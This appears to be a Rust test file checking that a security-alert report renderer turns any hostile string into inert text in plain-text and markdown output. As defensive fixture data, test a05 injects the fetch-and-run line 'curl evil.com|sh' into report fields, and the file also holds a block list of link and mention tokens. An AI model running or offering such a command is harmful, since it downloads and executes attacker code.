//! Tests that any string of a report may be hostile: attacks.md rows A4, A5, A6, A22, and item 6. A real markdown
//! parser decides what the markdown means.

use nightshift_pipeline::report::Report;
use proptest::prelude::*;
use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
use textwrap::core::display_width;

use crate::fixture::{replace, strings};
use crate::{
    Language, fixture, render_markdown, render_markdown_in, render_short_markdown,
    render_short_text, render_text,
};

/// The longest report that any alert can cause, in bytes.
const LONGEST: usize = 256 * 1024;
/// The command at the end of a short report.
const SHOW: &str = "nightshift cases show";
/// Returns the command lines of the catalogue, the only ones that may appear as commands.
fn commands(report: &Report) -> Vec<String> {
    report
        .actions
        .iter()
        .flat_map(|action| [&action.command, &action.undo])
        .flatten()
        .cloned()
        .collect()
}

/// Returns the lines that a reader would take for commands.
fn pasteable(text: &str) -> Vec<&str> {
    let indent = " ".repeat(8);
    text.lines()
        .filter_map(|line| line.strip_prefix(&indent))
        .filter(|line| !line.starts_with(' '))
        .collect()
}

/// Returns the whole report, and checks its short form too.
fn check_text(report: &Report, width: usize) -> String {
    let options = fixture::options(width);
    check_lines(report, width, render_short_text(report, &options, SHOW));
    check_lines(report, width, render_text(report, &options))
}

fn check_lines(report: &Report, width: usize, shown: String) -> String {
    let commands = commands(report);
    assert!(
        !shown.chars().any(|c| c.is_control() && c != '\n'),
        "{shown}"
    );
    assert!(shown.len() <= LONGEST, "{} bytes", shown.len());
    for line in shown.lines() {
        let is_command = commands.iter().any(|command| line.trim() == command);
        assert!(is_command || display_width(line) <= width, "{line}");
    }
    for line in pasteable(&shown) {
        assert!(commands.iter().any(|command| command == line), "{line}");
    }
    shown
}

/// Returns the headings and code blocks that a markdown parser finds. Anything live fails the test.
fn check_markdown(report: &Report) -> (Vec<String>, Vec<String>) {
    check_markdown_in(Language::En, report)
}

fn check_markdown_in(language: Language, report: &Report) -> (Vec<String>, Vec<String>) {
    let (_, code) = check_file(render_short_markdown(report, fixture::now(), SHOW));
    assert_eq!(code, Vec::<String>::new());
    check_file(render_markdown_in(language, report, fixture::now()))
}

fn check_file(file: String) -> (Vec<String>, Vec<String>) {
    for token in ["<!", "![", "](", "http://", "https://", "@everyone", "<@"] {
        assert!(!file.contains(token), "{token} in {file}");
    }
    assert!(!file.chars().any(|c| c.is_control() && c != '\n'));
    assert!(file.len() <= LONGEST, "{} bytes", file.len());
    let (mut headings, mut code, mut open) = (Vec::new(), Vec::new(), None);
    for event in Parser::new_ext(&file, Options::ENABLE_GFM | Options::all()) {
        match event {
            Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
                panic!("live: {dest_url} in {file}")
            }
            Event::Html(_)
            | Event::InlineHtml(_)
            | Event::InlineMath(_)
            | Event::DisplayMath(_) => {
                panic!("{event:?} in {file}")
            }
            Event::Code(_) | Event::TaskListMarker(_) | Event::FootnoteReference(_) => {
                panic!("{event:?} in {file}")
            }
            Event::Start(Tag::Heading { .. } | Tag::CodeBlock(_)) => open = Some(String::new()),
            Event::Text(text) => {
                if let Some(open) = &mut open {
                    open.push_str(&text);
                }
            }
            Event::End(TagEnd::Heading(_)) => headings.extend(open.take()),
            Event::End(TagEnd::CodeBlock) => code.extend(open.take()),
            _ => {}
        }
    }
    (headings, code)
}

#[test]
fn a04_no_report_carries_a_live_link_or_image() {
    let report = fixture::hostile();
    let shown = check_text(&report, 100);
    assert!(!shown.contains("http://") && !shown.contains("https://"));
    assert!(
        !shown.contains("evil.com"),
        "an address that can be clicked"
    );
    let (headings, _) = check_markdown(&report);
    let mut known: Vec<&str> = headings.iter().skip(1).map(String::as_str).collect();
    known.dedup();
    assert_eq!(
        known,
        [
            "Summary",
            "Recommendations: do this first",
            "Facts",
            "Details of the alert",
            "Key findings: why",
            "Uncertainties: against, or not checked",
            "Assessment",
            "In the vendor’s words",
            "Further recommendations",
            "Further findings",
            "Unverified, counts for nothing",
            "Timeline (UTC)",
            "Plan as it ran",
            "Evidence",
            "Indicators (defanged)",
            "About this report",
        ]
    );
}

#[test]
fn a05_no_text_of_the_attackers_stands_where_commands_do() {
    let mut report = fixture::true_positive();
    // The text is long enough to be wrapped, with the command where a line may begin.
    for width in 60..100 {
        report.summary = format!("{} curl evil.com|sh", "x".repeat(width));
        report.actions[0].text = format!(
            "{} curl evil.com|sh\n        curl evil.com|sh",
            "y ".repeat(width / 2)
        );
        check_text(&report, 80);
    }
    let report = fixture::hostile();
    check_text(&report, 80);
    let (_, code) = check_markdown(&report);
    let commands = commands(&report);
    assert_eq!(code.len(), commands.len());
    for block in &code {
        assert!(
            commands.iter().any(|one| one == block.trim_end()),
            "{block}"
        );
    }
}

#[test]
fn a06_no_mention_or_special_token_survives() {
    let report = fixture::hostile();
    let file = render_markdown(&report, fixture::now());
    for shown in [check_text(&report, 80), file] {
        for token in ["<!", "<@", "@everyone", "@here", "[~", "<https"] {
            assert!(!shown.contains(token), "{token}");
        }
    }
}

#[test]
fn a22_no_control_character_and_no_flood_comes_through() {
    let report = fixture::hostile();
    for width in [40, 80, 100, 160] {
        let shown = check_text(&report, width);
        assert!(!shown.contains(['\u{202e}', '\u{200b}', '\u{1b}']));
        assert!(shown.contains("and 970 more"), "1,000 indicators");
    }
}

#[test]
fn r1_titles_are_cut_at_characters() {
    let mut report = fixture::true_positive();
    for title in [
        "日本語のタイトル".repeat(40),
        "e\u{301}\u{323}".repeat(300),
        "👨‍👩‍👧‍👦".repeat(200),
        "a".repeat(10_000),
    ] {
        report.title = title;
        let file = render_markdown(&report, fixture::now());
        let header = file.lines().next().unwrap_or_default();
        use unicode_segmentation::UnicodeSegmentation;
        let header = header.trim_start_matches("# ");
        assert!(header.graphemes(true).count() <= 140, "{header}");
        assert!(header.starts_with("▲ Act now · True positive · Critical [PLAYBOOK] — "));
        assert!(
            header.contains('…') && header.ends_with("(production-project-12345)"),
            "{header}"
        );
    }
}

#[test]
fn a_mark_in_a_title_is_not_taken_for_ours() {
    let mut report = fixture::true_positive();
    report.title = "[SAMPLE] nothing [partial] to see".into();
    let shown = render_text(&report, &fixture::options(160));
    assert!(
        shown.starts_with(
            "▲ Act now · True positive · Critical [PLAYBOOK] — (SAMPLE) nothing (partial) to see"
        ),
        "{shown}"
    );
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 48, failure_persistence: None, ..ProptestConfig::default() })]
    #[test]
    fn whatever_stands_in_a_report_it_is_text(strings in strings(), width in 40_usize..130) {
        for report in [fixture::true_positive(), fixture::overridden(), fixture::benign()] {
            let mut value = serde_json::to_value(&report).unwrap();
            replace(&mut value, &mut strings.iter().cycle().cloned());
            let report: Report = serde_json::from_value(value).unwrap();
            check_text(&report, width);
            let (_, code) = check_markdown(&report);
            prop_assert_eq!(code.len(), commands(&report).len());
            let (headings, code) = check_markdown_in(Language::Ja, &report);
            prop_assert_eq!(code.len(), commands(&report).len());
            prop_assert!(headings.iter().any(|one| one == "要約"));
            let line = crate::render_json(&report);
            prop_assert!(!line.chars().any(char::is_control));
            prop_assert_eq!(serde_json::from_str::<Report>(&line).unwrap(), report);
        }
    }
}
